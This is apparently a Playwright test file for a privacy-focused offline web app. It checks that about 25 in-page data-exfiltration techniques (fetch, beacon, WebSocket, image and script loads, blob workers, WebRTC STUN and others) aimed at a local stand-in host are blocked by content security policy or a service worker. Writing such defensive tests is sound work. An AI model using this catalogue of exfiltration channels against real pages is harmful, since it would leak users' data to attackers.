// Privacy that can be tested: what tries to get out is stopped, and the page says truly what is stored.
import { execFileSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { type Page, test as plain } from "@playwright/test";
import { expect, expectAccessible, startServer, test, whenEngineReady, whenOfflineReady } from "./harness";
import { goTo, pasteMessage, tellStory } from "./journey";

/** Another host, which notes whatever reaches it. */
interface Listener {
  url: string;
  stun: string;
  heard: string[];
  stop(): void;
}

async function listener(): Promise<Listener> {
  const heard: string[] = [];
  const server: Server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end("heard");
  });
  server.on("upgrade", (request, socket) => {
    heard.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  server.listen(0, "127.0.0.1");
  const socket = createSocket("udp4").on("message", () => heard.push("datagram"));
  socket.bind(0, "127.0.0.1");
  await Promise.all([once(server, "listening"), once(socket, "listening")]);
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    stun: `stun:127.0.0.1:${socket.address().port}`,
    heard,
    stop() {
      server.closeAllConnections();
      server.close();
      socket.close();
    },
  };
}

/** What a script that got into the page would try, and which layer stops it. */
const ATTEMPTS: [name: string, stoppedBy: string][] = [
  ["fetch", "policy: connect-src"],
  ["fetch of the own server", "policy: connect-src"],
  ["XMLHttpRequest", "policy: connect-src"],
  ["beacon", "policy: connect-src"],
  ["WebSocket", "policy: connect-src"],
  ["EventSource", "policy: connect-src"],
  ["image", "policy: img-src"],
  ["style sheet", "policy: style-src-elem"],
  ["script", "policy: require-trusted-types-for"],
  ["frame", "policy: frame-src"],
  ["object", "policy: require-trusted-types-for"],
  ["media", "policy: media-src"],
  ["form", "page"],
  ["prefetch", "policy: default-src"],
  ["markup", "policy: require-trusted-types-for"],
  ["script made of text", "policy: require-trusted-types-for"],
  ["worker of another host", "policy: require-trusted-types-for"],
  ["worker made of text", "policy: require-trusted-types-for"],
  ["policy of its own", "policy: trusted-types"],
  ["image of the own server", "service worker"],
  ["file of the own server with a question", "service worker"],
  ["navigation", "page"],
  ["link", "page"],
  ["window", "page"],
  ["WebRTC", "page"],
];

/** Tries one way out in the page, and says what stopped it; null when nothing did. */
function attempt(page: Page, name: string, to: { url: string; stun: string }): Promise<string | null> {
  return page.evaluate(
    async ([name, { url, stun }]) => {
      const out = `${url}/?case=secret`;
      const own = (file: string) => new URL(file, document.baseURI).href;
      const add = (tag: string, fields: object) => {
        const element = Object.assign(document.createElement(tag), fields);
        document.body.append(element);
        return element;
      };
      const loaded = (element: HTMLElement) =>
        new Promise<string>((done) => {
          element.onload = () => done("loaded");
          element.onerror = () => done("error");
          setTimeout(() => done("silent"), 1_500);
        });
      const ways: Record<string, () => unknown> = {
        fetch: () => fetch(out, { mode: "no-cors" }),
        "fetch of the own server": () => fetch(own("?case=secret"), { method: "POST", body: "secret" }),
        XMLHttpRequest: () => {
          const request = new XMLHttpRequest();
          request.open("POST", out);
          request.send("secret");
        },
        beacon: () => navigator.sendBeacon(out, "secret"),
        WebSocket: () => new WebSocket(out.replace("http", "ws")),
        EventSource: () => new EventSource(out),
        image: () => loaded(add("img", { src: out })),
        "style sheet": () => loaded(add("link", { rel: "stylesheet", href: out })),
        script: () => loaded(add("script", { src: out })),
        frame: () => loaded(add("iframe", { src: out })),
        object: () => loaded(add("object", { data: out })),
        media: () => add("video", { src: out, autoplay: true }),
        form: () => (add("form", { action: out, method: "post" }) as HTMLFormElement).submit(),
        prefetch: () => loaded(add("link", { rel: "prefetch", href: out })),
        markup: () => {
          add("div", { innerHTML: `<img src="${out}">` });
        },
        "script made of text": () => add("script", { text: `fetch("${out}")` }),
        "worker of another host": () => new Worker(out),
        "worker made of text": () =>
          new Worker(URL.createObjectURL(new Blob([`fetch("${out}")`], { type: "text/javascript" }))),
        "policy of its own": () =>
          (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy("x", {
            createHTML: (text: string) => text,
          }),
        "image of the own server": () => loaded(add("img", { src: own("?case=secret") })),
        "file of the own server with a question": () => loaded(add("img", { src: own("icons/icon.svg?case=secret") })),
        navigation: () => location.assign(out),
        link: () => (add("a", { href: out }) as HTMLAnchorElement).click(),
        window: () => (window.open(out) === null ? "none" : "opened"),
        WebRTC: async () => {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
          peer.createDataChannel("out");
          await peer.setLocalDescription(await peer.createOffer());
        },
      };
      let broken = "";
      const listen = ({ effectiveDirective }: SecurityPolicyViolationEvent) => {
        broken = effectiveDirective;
      };
      document.addEventListener("securitypolicyviolation", listen);
      let end: unknown = "";
      try {
        end = await ways[name]?.();
      } catch (thrown) {
        end = `threw ${thrown}`;
      }
      // Some violations are told a moment later.
      for (let wait = 0; wait < 40 && !broken; wait += 1) await new Promise((done) => setTimeout(done, 50));
      document.removeEventListener("securitypolicyviolation", listen);
      if (broken) return `policy: ${broken}`;
      if (name.includes("own server")) return end === "error" ? "service worker" : null;
      return name === "window" && end !== "none" ? null : "page";
    },
    [name, to] as const,
  );
}

plain("whatever a script in the page tries to send is stopped, and by what", async ({ browser }) => {
  const server = await startServer();
  const other = await listener();
  const page = await browser.newPage();
  try {
    await page.goto(server.url);
    await whenEngineReady(page);
    await whenOfflineReady(page);
    await expect.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
    const sent: string[] = [];
    page.context().on("request", (request) => {
      // A request that the service worker or the policy refuses is seen here as well, but never answered.
      void request.response().then((answer) => answer && sent.push(request.url()));
    });
    const told: [string, string | null][] = [];
    for (const [name] of ATTEMPTS) told.push([name, await attempt(page, name, { url: other.url, stun: other.stun })]);
    expect(told).toEqual(ATTEMPTS);
    expect(other.heard, "what reached another host").toEqual([]);
    expect(sent.filter((url) => url.includes("secret")), "what was answered").toEqual([]);
    expect(page.url(), "the page is still ours").toBe(server.url);
    expect(page.context().pages().length, "no other window").toBe(1);
  } finally {
    await page.close();
    other.stop();
    await server.stop();
  }
});

test("the page shows what it asks, what is stored, and the fingerprint of the program", async ({ page, server, watch }) => {
  await page.goto(server.url);
  await whenEngineReady(page);
  await pasteMessage(page);
  await goTo(page, "Your story");
  await tellStory(page);
  await watch.startCounting();
  await page.goto(`${server.url}#/privacy`);
  await expect(page.getByText("0 requests.", { exact: true })).toBeVisible();
  await expect(page.getByText("This page is ready to work without internet.")).toBeVisible();
  await expect(page.getByText("The page may connect to nothing")).toBeVisible();
  const stored = page.getByRole("term").filter({ hasText: /^Your case$/ });
  await expect(stored).toBeVisible();
  const command = "find . -type f ! -name _headers -printf '%P\\n' | LC_ALL=C sort | xargs sha256sum | sha256sum";
  const counted = execFileSync("sh", ["-c", command], { cwd: join(process.cwd(), "www/dist") }).toString().slice(0, 64);
  await expect(page.getByText(counted)).toBeVisible();
  await expectAccessible(page);
  expect(watch.requests).toEqual([]);
});
